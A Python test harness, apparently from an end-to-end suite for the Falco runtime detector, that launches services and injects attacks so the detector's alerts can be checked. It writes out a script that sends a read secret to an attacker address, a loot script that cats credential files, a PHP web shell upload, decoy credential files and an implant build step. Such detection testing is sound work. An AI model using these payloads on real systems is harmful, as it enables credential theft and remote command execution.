"""Plays attacks: a fresh service for each, one injected command, and the proof that it worked."""

import shutil
import subprocess
import threading
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from click import echo
from e2e.real import apps
from e2e.real.attacks import ATTACKS, MARKS, Attack, case, chosen, is_told
from e2e.real.network import ASKED, ATTACKER, Listener, heard
from e2e.real.places import ACCOUNT, HOME, LAYERS, container_id
from e2e.real.services import SERVICES, Running, has_terminal, place

PLACES = ("host", "known", "unknown")
"""A host; a container whose address Falco knows; one whose address it does not."""

RUNS_AS_ROOT = frozenset(SERVICES) - {"apache-php", "nginx-fpm", "lighttpd-cgi", "postgres"}
PHP_SERVICES = frozenset({"apache-php", "nginx-fpm"})


@dataclass
class Run:
    """One attack on one service in one place, and what came of it."""

    service: str
    where: str
    attack: Attack
    began: float = 0
    worked: bool = False
    trace: str = ""

    @property
    def name(self) -> str:
        """The name of its place, of its cgroup and of its folder."""
        return f"{self.service}-{self.where}-{ATTACKS.index(self.attack)}"

    @property
    def container(self) -> str:
        """The id of its container as Falco shows it; "" on a host."""
        return "" if self.where == "host" else container_id(self.name)[:12]

    @property
    def kind(self) -> str:
        """`host` or `container`."""
        return "host" if self.where == "host" else "container"

    @property
    def is_unseen(self) -> bool:
        """Whether nothing is a service here: a compiled server on a host."""
        return self.service == "go" and self.where == "host"

    @property
    def is_guess(self) -> bool:
        """Whether only our plugin can tell."""
        return self.attack.plugin and self.where == "host"

    @property
    def expected(self) -> str:
        """The case that must be told."""
        return "silence" if self.is_unseen else case(self.groups)

    @property
    def groups(self) -> str:
        """The groups of the attack here: a notebook may run it at a terminal."""
        at_terminal = self.service == "jupyter" and has_terminal(self.attack.command)
        return self.attack.groups(self.kind) + ("I" if at_terminal else "")

    def is_right(self, found: str) -> bool:
        """Whether what was told is what must be."""
        return found == "silence" if self.is_unseen else is_told(self.groups, found)


def planned(each: int, services: Sequence[str]) -> Iterator[Run]:
    """`each` attacks on every service in every place, so that every attack comes up somewhere."""
    at = 0
    for where in PLACES:
        for name in services:
            for index, attack in chosen(_allowed(name, where), at, each):
                at = index + 1
                if not _missing(attack):
                    yield Run(name, where, attack)


def _allowed(service: str, where: str) -> frozenset[str]:
    true = {"root": service in RUNS_AS_ROOT, "container": where != "host", "php-files": service in PHP_SERVICES}
    return frozenset(mark for mark, holds in true.items() if holds)


def _missing(attack: Attack) -> list[str]:
    return [program for program in attack.needs if program not in MARKS and not shutil.which(program)]


def furnish(folder: Path) -> None:
    """Lay out what attackers serve and what they look for."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / ASKED).touch()
    (folder / "x.sh").write_text("id\nuname -a\n")
    (folder / "implant").write_bytes((LAYERS / "implant").read_bytes())
    (folder / "a.py").write_text(
        "import socket, sys\nsecret = open(sys.argv[1]).read()\nprint(secret)\n"
        "wire = socket.create_connection((sys.argv[2], int(sys.argv[3])))\n"
        "wire.sendall(('uid=' + secret).encode())\n"
    )
    home = Path(HOME)
    for name, text in {
        ".aws/credentials": "[default]\naws_secret_access_key = none\n",
        ".ssh/id_rsa": "-----BEGIN NONE PRIVATE KEY-----\n",
        "app/.env": "DB_PASSWORD=none\n",
    }.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)


def secret(where: str) -> str:
    """The credential that an intruder goes for."""
    return f"{HOME}/.aws/credentials" if where == "host" else f"/var{ACCOUNT}/token"


class Player:
    """Plays runs one after the other, against services that meet what is in a folder at the attacker's address."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def play(self, run: Run) -> Run:
        """Start, inject, prove, end."""
        service = SERVICES[run.service]
        running = Running(service, place(run.kind, run.name))
        run.began = time.time()
        try:
            running.start()
            if service.is_web:
                running.ask(service.page)
            time.sleep(0.5)
            run.worked, run.trace = self._inject(running, run)
        except (OSError, TimeoutError) as problem:
            run.trace = repr(problem)
        finally:
            running.end()
            _tidy(_tag(run))
        echo(f"{'played' if run.worked else 'FAILED'} {run.service} {run.where}: {run.attack.name}")
        return run

    def _inject(self, running: Running, run: Run) -> tuple[bool, str]:
        listener = Listener(self.folder)
        name = secret(run.where)
        script = self.folder / "loot.sh"
        script.write_text(f"cat {name}\n")

        def fill(text: str) -> str:
            tag = _tag(run)
            for word, value in (("SECRET", name), ("TMP", f"/tmp/.{tag}"), ("TAG", tag), ("HOME", HOME)):
                text = text.replace(word, value)
            return _addressed(text, listener.port)

        said: list[str] = []
        if "php-files" in run.attack.needs:
            return heard(run.attack.proof, text := _web_shell(running, name)), text
        thread = threading.Thread(target=lambda: said.append(running.service.inject(running, fill(run.attack.command))))
        thread.start()
        came = listener.talk([*map(fill, run.attack.talk)]) if run.attack.talk else True
        listener.close()
        thread.join(70)
        time.sleep(run.attack.seconds)
        asked = [self._asked_for(_tag(run))] if "TAG" in run.attack.proof else []
        text = "\n".join([*said, listener.heard, *asked])
        wanted = fill(run.attack.proof) or "uid="
        return came and heard(wanted, text), text[-1500:]

    def _asked_for(self, tag: str, seconds: float = 15) -> str:
        """What was asked of the attacker's server, once a tag is in it: what comes later comes late on a busy machine."""
        deadline = time.monotonic() + seconds
        while tag not in (asked := (self.folder / ASKED).read_text()) and time.monotonic() < deadline:
            time.sleep(0.2)
        return asked


def _addressed(text: str, port: int) -> str:
    """Fill in the attacker's address and port, where A and P stand for them."""
    for before, after in (("http://A/", f"http://{ATTACKER}/"), ("/A/P", f"/{ATTACKER}/{port}")):
        text = text.replace(before, after)
    for before, after in (('"A"', f'"{ATTACKER}"'), ("'A'", f"'{ATTACKER}'"), (" A P", f" {ATTACKER} {port}")):
        text = text.replace(before, after)
    text = text.replace(":A:P", f":{ATTACKER}:{port}").replace("'P'", f"'{port}'")
    return text.replace(",P)", f",{port})").replace("(P,", f"({port},")


def _web_shell(running: Running, name: str) -> str:
    """Put a PHP file where the server runs it, then use it, with a page between."""
    running.ask("/index.php", body=b"<?php system($_REQUEST['c']); ?>", do="upload", name="thumb.php")
    running.ask("/thumb.php", c="id")
    running.ask(running.service.page)
    return running.ask("/thumb.php", c=f"cat {name}")


def _tag(run: Run) -> str:
    return container_id(run.name)[:6]


def _tidy(tag: str) -> None:
    for folder in ("/tmp", "/var/tmp"):
        for left in Path(folder).glob(f"*{tag}*"):
            left.unlink(missing_ok=True)


def in_parallel(player: Player, runs: Sequence[Run], at_once: int = 2) -> list[Run]:
    """Play all: hosts and containers beside each other, since Falco tells them apart."""
    left, done, lock = list(runs), [], threading.Lock()

    def work() -> None:
        while True:
            with lock:
                if not left:
                    return
                run = left.pop(0)
            done.append(player.play(run))

    threads = [threading.Thread(target=work) for _ in range(at_once)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return done


def compile_implant() -> None:
    """Build the attacker's own program."""
    source = LAYERS / "implant.c"
    source.write_text(apps.DROPPED)
    subprocess.run(["cc", "-static", "-w", "-o", LAYERS / "implant", source], check=True)
